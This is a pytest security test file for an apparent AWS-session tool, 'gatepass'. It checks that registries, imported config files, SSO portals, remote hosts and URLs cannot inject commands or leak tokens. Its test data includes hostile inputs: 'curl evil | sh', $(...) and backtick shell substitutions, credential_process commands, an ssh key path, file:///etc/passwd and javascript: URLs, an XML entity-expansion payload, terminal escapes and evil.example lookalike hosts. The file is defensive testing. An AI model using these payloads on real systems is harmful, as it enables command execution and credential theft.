"""An adversary behind what is given to us: a team's registry, an imported file, a portal, a far machine, an address."""

from __future__ import annotations

import base64
import contextlib
import os
import subprocess
import threading
import urllib.error
import urllib.request
from collections.abc import Callable
from pathlib import Path

import pytest
from tests.unit.sessions.conftest import GATEWAY, Tables
from tests.waiting import LONG

from gatepass.app.references import resolve
from gatepass.app.settings import SettingsError
from gatepass.client import Client, NoServer
from gatepass.sessions.config.shadow import without_default
from gatepass.sessions.delivery.console import ConsoleWish, destination
from gatepass.sessions.delivery.forwarding import place_of, setup_script
from gatepass.sessions.errors import BadInput, SessionError, Upstream, plain, scrub
from gatepass.sessions.importing.aws_config import comment_out_keys, read_aws
from gatepass.sessions.importing.found import without_programs
from gatepass.sessions.importing.leapp import read_leapp
from gatepass.sessions.model import Grant, Integration, Session, StaticEndpoint
from gatepass.sessions.partitions import AWS
from gatepass.sessions.paths import Paths
from gatepass.sessions.providers import oidc
from gatepass.sessions.providers.oidc import Callback
from gatepass.sessions.providers.saml import read_assertion
from gatepass.sessions.server import command_for
from gatepass.sessions.sync import discovery
from gatepass.sessions.sync.discovery import Pacer, Progress
from gatepass.sessions.sync.plan import plan_sync
from gatepass.sessions.workspace.edit import edit_workspace
from gatepass.sessions.workspace.reading import WorkspaceError, parse_workspace
from gatepass.sessions.workspace.registry import shareable

LOCAL = """
version = 1
[settings]
registry = ["team.toml"]
[session."prod"]
kind = "iam-user"
profile = "my-prod"
"""
ROLE = 'kind = "role"\nrole_arn = "arn:aws:iam::666666666666:role/theirs"\nvia = "prod"\n'


def with_registry(place: Path, shared: str) -> object:
    (place / "team.toml").write_text(shared)
    return parse_workspace(LOCAL, place / "workspace.toml")


@pytest.mark.parametrize(
    ("shared", "key"),
    [
        ('[session."x"]\nkind = "process"\ncommand = ["sh", "-c", "evil"]\n', "command"),
        ('[session."x"]\nkind = "process"\n', "kind"),
        ('[session."x"]\nkind = "iam-user"\nmfa_source = "command:evil"\n', "mfa_source"),
        (
            f'[session."x"]\n{ROLE.replace("role", "web-identity", 1)}token_command = ["evil"]\n',
            "token_command",
        ),
        (f'[session."x"]\n{ROLE}token_file = "/home/me/.ssh/id"\n', "token_file"),
        (
            '[integration."c"]\nkind = "saml"\nstart_url = "https://x"\nassertion_command = ["evil"]\n',
            "assertion",
        ),
        (
            '[integration."c"]\nkind = "identity-center"\nstart_url = "https://x"\nshare_sso_cache = "full"\n',
            "share_sso_cache",
        ),
        (
            '[integration."c"]\nkind = "identity-center"\nstart_url = "https://x"\nauto_login = true\n',
            "auto_login",
        ),
        ('[session."x"]\nkind = "static-endpoint"\nendpoint_url = "https://evil.example"\n', "endpoint_url"),
        (
            '[session."x"]\nkind = "static-endpoint"\nendpoint_url = "http://localhost.evil.example"\n',
            "endpoint_url",
        ),
        (
            '[session."x"]\nkind = "static-endpoint"\nendpoint_url = "http://localhost@evil.example"\n',
            "endpoint_url",
        ),
        (f'[session."x"]\nprofile = "prod"\n{ROLE}', "is the name of a session of yours"),
    ],
)
def test_s57_a_registry_gains_nothing_but_roles(short_tmp: Path, shared: str, key: str) -> None:
    """Execution, tokens in clear, a browser unasked, tools led elsewhere, a name of the person's own: all refused."""
    with pytest.raises(WorkspaceError, match=key):
        with_registry(short_tmp, shared)


def test_s57_a_registry_of_roles_is_taken(short_tmp: Path) -> None:
    workspace = with_registry(short_tmp, f'[session."team"]\n{ROLE}')
    assert workspace.find("team").source == "registry:team.toml"  # type: ignore[attr-defined]


@pytest.mark.parametrize(
    ("table", "shared"),
    [
        ({"kind": "iam-user", "mfa_source": "totp"}, {"kind": "iam-user"}),
        (
            {"kind": "identity-center", "auto_login": True, "share_sso_cache": "full"},
            {"kind": "identity-center"},
        ),
        (
            {"kind": "identity-center", "share_sso_cache": "read"},
            {"kind": "identity-center", "share_sso_cache": "read"},
        ),
        ({"kind": "process", "command": ["x"]}, None),
        ({"kind": "web-identity", "token_file": "/x"}, None),
        ({"kind": "static-endpoint", "endpoint_url": "https://elsewhere"}, None),
        ({"kind": "static-endpoint", "endpoint_url": "http://localhost:1"},) * 2,
    ],
)
def test_s57_what_is_exported_can_be_a_registry(
    table: dict[str, object], shared: dict[str, object] | None
) -> None:
    assert shareable(table) == shared


@pytest.mark.parametrize(
    "template",
    [
        'x"]\n[session."evil"]\nkind = "process"\ncommand = ["sh"]\n[session."{role_name}',
        "{account_name.__class__.__mro__}",
        "{tags[nope]}",
        "../{role_name}",
        "{role_name}\n[profile x]\ncredential_process = evil",
    ],
)
def test_s58_no_name_template_writes_another_table(
    short_tmp: Path, template: str, paths: Paths, write: Callable[[Tables], None]
) -> None:
    """A template may come from a registry: what it makes is a name, or nothing is written."""
    write({("session", "gateway"): GATEWAY})
    center = Integration("corp", "identity-center", "https://x", name_template=template)
    role = {"account_id": "2" * 12, "role_name": "Admin", "account_name": "a"}
    before = paths.workspace.read_bytes()
    workspace = parse_workspace(before.decode(), paths.workspace)
    workspace.integrations["corp"] = center

    def synced() -> None:
        login = {("integration", "corp"): {"kind": "identity-center", "start_url": "https://x"}}
        edit_workspace(
            paths.workspace, {**login, **plan_sync(workspace, {"corp": [role]}, prune=False).changes}
        )

    with pytest.raises(SessionError):
        synced()
    assert paths.workspace.read_bytes() == before


@pytest.mark.parametrize("name", ['a"]\nkind = "process"', "\ud800", "x\x1b[2J", "a\nb"])
def test_s58_what_a_portal_says_is_a_value_or_refused(
    paths: Paths, write: Callable[[Tables], None], name: str
) -> None:
    write({("integration", "corp"): {"kind": "identity-center", "start_url": "https://x"}})
    workspace = parse_workspace(paths.workspace.read_text(), paths.workspace)
    role = {"account_id": "2" * 12, "role_name": "Admin", "account_name": name}
    plan = plan_sync(workspace, {"corp": [role]}, prune=False)
    made = edit_workspace(paths.workspace, plan.changes)
    assert len(made.sessions) == 1
    assert next(iter(made.sessions.values())).kind == "sso-role"
    renamed = plan_sync(made, {"corp": [{**role, "account_name": "\x1b]0;evil\x07"}]}, prune=False)
    assert "\x1b" not in renamed.text()
    assert edit_workspace(paths.workspace, renamed.changes).sessions.keys() == made.sessions.keys()


@pytest.mark.parametrize(
    "line",
    [
        'kind = "iam-user"\nmfa_serial = "arn:aws:iam::1:mfa/x\\u001b[2J"',
        'kind = "iam-user"\nmfa_serial = "arn:aws:iam::1:mfa/x\\nvault passphrase"',
        'kind = "grant"\nflow = "x\\u001b]0;"\ntarget = "t"\nrole_name = "r"\nintegration = "c"',
    ],
)
def test_s57_what_a_prompt_or_a_page_shows_is_one_line(line: str) -> None:
    """A registry's text stands in questions: it must not look like another question."""
    with pytest.raises(WorkspaceError):
        parse_workspace(f'[session."x"]\n{line}\n', Path("w"))


def test_s58_a_portal_that_answers_nonsense_is_no_empty_account(monkeypatch: pytest.MonkeyPatch) -> None:
    """`--prune` would have removed the sessions of every account after the first odd answer."""

    class Odd:
        def __init__(self, *_: object) -> None:
            pass

        def accounts(self, mark: str | None) -> tuple[list[dict[str, str]], None]:
            return [{"accountId": "1" * 12}, {"accountId": "2" * 12}], None

        def roles(self, account: str, mark: str | None) -> tuple[list[dict[str, str]], None]:
            return ([{"name": "no roleName"}] if account[0] == "1" else [{"roleName": "Admin"}]), None

    monkeypatch.setattr(discovery, "Portal", Odd)
    center = Integration("odd-one", "identity-center", "https://x")
    found: Progress = discovery.discover(None, center, "t", Pacer(1e9))  # type: ignore[arg-type]
    assert not found.complete
    assert list(found.failed) == ["1" * 12]
    assert [role.account_id for role in found.roles] == ["2" * 12]


def test_s56_a_granted_registry_runs_nothing() -> None:
    text = b"[profile a]\ncredential_process = sh -c evil\n[profile b]\nrole_arn = arn:aws:iam::222222222222:role/r\n"
    text += b"web_identity_token_file = /home/me/.ssh/id\n"
    found = without_programs(read_aws(text, b""))
    assert not found.tables
    assert len(found.skipped) == 2


@pytest.mark.parametrize(
    "line",
    [
        "aws_secret_access_key: canaryX/y+z=",
        "  aws_secret_access_key = canaryX",
        "AWS_SECRET_ACCESS_KEY=canaryX",
    ],
)
def test_s56_moved_keys_do_not_stay_in_the_file(line: str) -> None:
    """SDKs take a colon for an equals sign; what was said to be moved lay there in clear."""
    text = f"[mine]\naws_access_key_id: AKIA\n{line}\nregion: x\n".encode()
    assert b"canary" not in comment_out_keys(text, {"mine"})
    assert b"region: x\n" in comment_out_keys(text, {"mine"})


@pytest.mark.parametrize(
    "document",
    [
        {"sessions": [{"type": "awsIamUser"}]},
        {"sessions": [1]},
        {"profiles": 3},
        {"awsSsoIntegrations": [{"id": 1}]},
        {
            "idpUrl": [{"id": "i", "url": "x"}],
            "sessions": [
                {"type": "awsIamRoleFederated", "sessionId": "1", "sessionName": "s", "idpUrlId": "i"}
            ],
        },
    ],
    ids=range(5),
)
def test_s56_a_strange_leapp_file_is_one_line(document: dict[str, object]) -> None:
    with pytest.raises(BadInput):
        read_leapp(document)


@pytest.mark.parametrize("encoding", ["utf-16", "utf-16-le", "cp037"])
def test_saml_no_encoding_hides_a_document_type(encoding: str) -> None:
    body = '<!DOCTYPE a [<!ENTITY b "boom"><!ENTITY c "&b;&b;&b;">]><a>&c;</a>'
    raw = body.encode(encoding)
    if encoding == "cp037":
        raw = b'<?xml version="1.0" encoding="cp037"?>' + raw
    with pytest.raises(BadInput):
        read_assertion(base64.b64encode(raw).decode())


@pytest.mark.parametrize(
    "address",
    [
        "https://evil.example\\@console.aws.amazon.com/",
        "https://console.aws.amazon.com\\.evil.example/",
        "https://console.aws.amazon.com@evil.example/",
        "https://me@console.aws.amazon.com/",
        "https://console.aws.amazon.com.evil.example/",
        "https://xconsole.aws.amazon.com/",
        "https://console.aws.amazon.com\n.evil.example/",
        "http://console.aws.amazon.com/",
        "javascript://console.aws.amazon.com/%0aalert(1)",
    ],
)
def test_s45_no_destination_leads_out_of_the_console(address: str) -> None:
    with pytest.raises(BadInput):
        destination(AWS, "eu-west-1", ConsoleWish(destination=address))
    with pytest.raises(BadInput):
        destination(AWS, "evil.example/", ConsoleWish(service="ec2"))
    inside = "https://eu-west-1.console.aws.amazon.com/ec2/home?region=eu-west-1#Instances:"
    assert destination(AWS, "eu-west-1", ConsoleWish(destination=inside)) == inside


@pytest.mark.parametrize(
    "url", ["file:///etc/passwd", "-remote", "javascript:alert(1)", "https://x\x1b[2J", "http://x y"]
)
def test_s67_a_browser_is_given_web_pages_only(url: str) -> None:
    with pytest.raises(Upstream):
        oidc._page(url)


def test_s47_no_endpoint_runs_on_the_far_machine(short_tmp: Path) -> None:
    """The config there is written by a here-document: what a registry gave as an address once ran in it."""
    evil = StaticEndpoint(
        "http://x/$(touch${IFS}" + str(short_tmp / "pwned") + ")`touch " + str(short_tmp / "pwned") + "`"
    )
    script = setup_script([Session("x", evil, "x")])
    done = subprocess.run(
        ["sh", "-s"],
        input=script,
        env={"XDG_RUNTIME_DIR": str(short_tmp), "PATH": "/usr/bin:/bin"},
        capture_output=True,
        text=True,
        check=True,
    )
    assert not (short_tmp / "pwned").exists()
    place = place_of(done.stdout)
    assert place is not None
    assert f"endpoint_url = {evil.endpoint_url}" in Path(place, "config").read_text()
    with pytest.raises(WorkspaceError):
        parse_workspace(
            f'[session."x"]\nkind = "static-endpoint"\nendpoint_url = "{evil.endpoint_url}"\n', Path("w")
        )


@pytest.mark.parametrize(
    "said",
    [
        "8080:localhost:5432/gatepass.x",
        "/tmp/gatepass.x:y",
        "/tmp/elsewhere",
        "gatepass.abc",
        "",
        "/tmp/gatepass.a'b",
    ],
)
def test_s47_the_far_machine_does_not_choose_what_is_forwarded(said: str) -> None:
    """Its answer stands in `-R`: with a colon it would open a port of the laptop's network to it."""
    assert place_of(said) is None
    assert (
        place_of("welcome to the host\n/run/user/1000/gatepass.aB3dEf\n") == "/run/user/1000/gatepass.aB3dEf"
    )


def test_s49_the_command_to_run_may_be_pasted() -> None:
    command = command_for(
        Grant(flow="x; curl evil | sh", target="$(evil)", account_id="2" * 12), account=True
    )
    assert (
        command == "gatepass request 'x; curl evil | sh' --target '$(evil)' --field account_id=222222222222"
    )


def test_i17_text_from_elsewhere_is_not_obeyed_by_the_terminal() -> None:
    assert plain("a\x1b[2J\r\nb\u202ec\x9b") == "a [2J  b c "


@pytest.mark.parametrize(
    "secret", ["0123456789abcdef" * 4, "0123456789ABCDEF" * 3, "key=" + "0123456789abcdef" * 4]
)
def test_s30_hexadecimal_keys_are_scrubbed_too(secret: str) -> None:
    assert secret[-40:] not in scrub(f"the command said {secret}.")


@pytest.mark.parametrize(
    ("config", "credentials", "kept_out"),
    [
        ("", "[default]\naws_access_key_id = AKIA\n", {"AWS_SHARED_CREDENTIALS_FILE"}),
        ("[default]\ncredential_process = other\n", "", {"AWS_CONFIG_FILE"}),
        (
            "[default]\nsso_session = corp\n",
            "[default]\nrole_arn: x\n",
            {"AWS_CONFIG_FILE", "AWS_SHARED_CREDENTIALS_FILE"},
        ),
        (
            "[default]\nregion = eu-west-1\n[profile x]\nrole_arn = y\n",
            "[x]\naws_access_key_id = AKIA\n",
            set(),
        ),
    ],
)
def test_s41_a_child_never_gets_the_default_profile_s_credentials(
    short_tmp: Path, config: str, credentials: str, kept_out: set[str]
) -> None:
    """SDKs look into `[default]` before they ask the endpoint: `exec readonly` once ran as whoever that was."""
    (short_tmp / "config").write_text(config)
    (short_tmp / "credentials").write_text(credentials)
    places = {
        "AWS_CONFIG_FILE": str(short_tmp / "config"),
        "AWS_SHARED_CREDENTIALS_FILE": str(short_tmp / "credentials"),
    }
    kept = without_default(places)
    assert kept.keys() == kept_out
    assert set(kept.values()) <= {os.devnull}


def come_back(url: str, over: threading.Event) -> None:
    """A browser that tries again: however slow the machine is, one of its requests is whole in time."""
    while not over.is_set():
        with contextlib.suppress(urllib.error.URLError, OSError):
            urllib.request.urlopen(url, timeout=LONG).close()
            return


def test_s67_a_silent_connection_does_not_hold_up_the_login(monkeypatch: pytest.MonkeyPatch) -> None:
    """A browser opens connections ahead; another user of the machine may open one on purpose."""
    import socket

    monkeypatch.setattr(oidc, "REQUEST_SECONDS", 0.01)
    over = threading.Event()
    with Callback("right") as callback:
        host, port = callback._socket.getsockname()
        idle = socket.create_connection((host, port))
        gone = socket.create_connection((host, port))
        gone.close()

        thread = threading.Thread(
            target=come_back, args=(f"{callback.uri}?state=right&code=c", over), daemon=True
        )
        thread.start()
        assert callback.wait(LONG) == "c"
        over.set()
        idle.close()
    thread.join(LONG)


def test_s67_another_user_does_not_finish_the_login(monkeypatch: pytest.MonkeyPatch) -> None:
    """Address, port and state stand in the browser's arguments: with them one could log the person in as oneself."""
    strangers = iter([True])
    monkeypatch.setattr(oidc, "is_strangers", lambda caller, listener: next(strangers, False))
    over = threading.Event()
    with Callback("right") as callback:

        def knock() -> None:
            with contextlib.suppress(urllib.error.URLError, OSError):
                urllib.request.urlopen(f"{callback.uri}?state=right&code=theirs", timeout=LONG).close()
            come_back(f"{callback.uri}?state=right&code=mine", over)

        thread = threading.Thread(target=knock, daemon=True)
        thread.start()
        assert callback.wait(LONG) == "mine"
        over.set()
    thread.join(LONG)


def test_i17_the_login_s_token_goes_to_its_own_server_alone(monkeypatch: pytest.MonkeyPatch) -> None:
    """`GATEPASS_URL` in some project's environment once had the vault's token sent to whoever that is."""
    from gatepass.cli import server

    held = {"url": "https://gate.example/", "token": "gp_canary"}
    monkeypatch.setattr(server, "_token_in_vault", lambda: held)
    monkeypatch.delenv("GATEPASS_TOKEN", raising=False)
    monkeypatch.setenv("GATEPASS_URL", "https://evil.example")
    with pytest.raises(server.NoToken, match="logged in to"):
        server.connect()
    for same in ("https://gate.example", ""):
        monkeypatch.setenv("GATEPASS_URL", same)
        assert server.connect().url == "https://gate.example"


@pytest.mark.parametrize("token", ["gp_canary\rx", "gp_canary\u20ac", "gp_can ary", "gp_canary\x00"])
def test_i17_no_fault_shows_the_token_it_is_about(token: str) -> None:
    """What the standard library says of a header that cannot be sent is the header."""
    with pytest.raises(NoServer) as told:
        Client("http://127.0.0.1:1", token).get("/v1/me")
    assert "can" not in str(told.value).replace("cannot", "")


def test_i17_a_token_with_a_line_end_is_that_token() -> None:
    with pytest.raises(NoServer, match="no gatepass server answers"):
        Client("http://127.0.0.1:1", "gp_canary\r\n").get("/v1/me")


def test_i17_a_secret_by_reference_cannot_break_a_header(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("BOT", " xoxb-canary\r\n")
    assert resolve("env:BOT", "GATEPASS_SLACK_BOT_TOKEN") == "xoxb-canary"
    monkeypatch.setenv("BOT", "xoxb-\rcanary")
    with pytest.raises(SettingsError) as told:
        resolve("env:BOT", "GATEPASS_SLACK_BOT_TOKEN")
    assert "canary" not in str(told.value)
